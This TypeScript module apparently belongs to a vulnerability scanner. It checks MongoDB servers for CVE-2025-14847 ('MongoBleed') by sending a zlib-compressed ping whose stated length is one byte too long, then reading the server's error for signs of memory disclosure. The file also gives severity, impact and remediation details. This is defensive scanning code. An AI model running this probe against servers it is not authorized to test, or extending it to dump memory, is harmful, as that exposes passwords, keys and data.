/** MongoDB: memory disclosure through compressed messages (OP_COMPRESSED of the wire protocol). */
import { deflateSync, inflateSync } from 'node:zlib'
import { checkInfo, type NativeCheck, type NativeContext, type Proof } from '#native/native-check.ts'

const memoryDisclosure = checkInfo({
  id: 'CVE-2025-14847',
  name: 'MongoDB: memory disclosure in compressed messages (MongoBleed)',
  severity: 'high',
  cvss: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:N/A:N',
  score: 7.5,
  summary:
    'MongoDB trusts the length stated in a zlib-compressed message, and interprets uninitialized memory as part of it, before authentication. The check stated a length one byte longer than its message.',
  impact:
    "An unauthenticated attacker can read the server's memory, which contains passwords, keys, and documents. Exploited in the wild.",
  remediation:
    'Update MongoDB to 8.2.3, 8.0.17, 7.0.28, 6.0.27, 5.0.32, 4.4.30, or later, and rotate the credentials that the server has processed. Until then, remove `zlib` from `net.compression.compressors`.',
  reference: 'https://nvd.nist.gov/vuln/detail/CVE-2025-14847',
  tags: 'cve cve2025 mongodb memory kev unauth network',
  verifiedOn: 'mongodb',
})

const opcodes = { compressed: 2012, message: 2013 }
const zlib = 2
const headerBytes = 16
const compressedHeaderBytes = headerBytes + 9
const replyBytesMax = 4096
/** `{ ping: 1, $db: "admin" }` as BSON, in an OP_MSG without flags. */
const ping = Buffer.from('00000000001e0000001070696e67000100000002246462000600000061646d696e0000', 'hex')

export const mongodbCompression: NativeCheck = {
  checks: [memoryDisclosure],
  appliesTo: ({ protocol }) => protocol === 'mongodb',
  async run(context) {
    const honest = await replyTo(context, 0)
    if (honest === undefined) return {}
    // Without zlib, or in a server that only implements the protocol.
    if (!honest.includes('\u0001ok')) return { [memoryDisclosure.id]: null }
    const reply = await replyTo(context, 1)
    return { [memoryDisclosure.id]: reply === undefined ? null : proofOf(reply) }
  },
}

/**
 * Sends a compressed message that states more bytes than it has. Fixed servers close the connection.
 *
 * @returns the decompressed reply; undefined without a valid one
 */
async function replyTo(context: NativeContext, missingBytes: number): Promise<Buffer | undefined> {
  const answer = await context.exchange(compressedPing(missingBytes), { enough: isWhole })
  if (!answer || !isWhole(answer) || answer.readUInt32LE(12) !== opcodes.compressed) return undefined
  if (answer.readUInt32LE(16) !== opcodes.message || answer[24] !== zlib) return undefined
  try {
    return inflateSync(answer.subarray(compressedHeaderBytes), { maxOutputLength: replyBytesMax })
  } catch {
    return undefined
  }
}

function compressedPing(missingBytes: number): Buffer {
  const content = deflateSync(ping)
  const head = Buffer.alloc(compressedHeaderBytes)
  head.writeUInt32LE(head.length + content.length, 0)
  head.writeUInt32LE(1, 4)
  head.writeUInt32LE(opcodes.compressed, 12)
  head.writeUInt32LE(opcodes.message, 16)
  head.writeUInt32LE(ping.length + missingBytes, 20)
  head[24] = zlib
  return Buffer.concat([head, content])
}

function isWhole(answer: Buffer): boolean {
  return answer.length > compressedHeaderBytes && answer.length >= answer.readUInt32LE(0)
}

/** The error concerns the byte that was not sent. It is the only one that the server can disclose here. */
function proofOf(reply: Buffer): Proof | null {
  const [error = ''] =
    /Multiple body sections in message|Unknown section kind|InvalidBSON|Location\d{5}/.exec(reply.toString('latin1')) ??
    []
  if (error === '') return null
  const request = `OP_COMPRESSED (zlib), OP_MSG { ping: 1 }, uncompressedSize ${ping.length + 1} instead of ${ping.length}`
  return { request, answer: `OP_MSG\n${error}`, highlights: [error] }
}
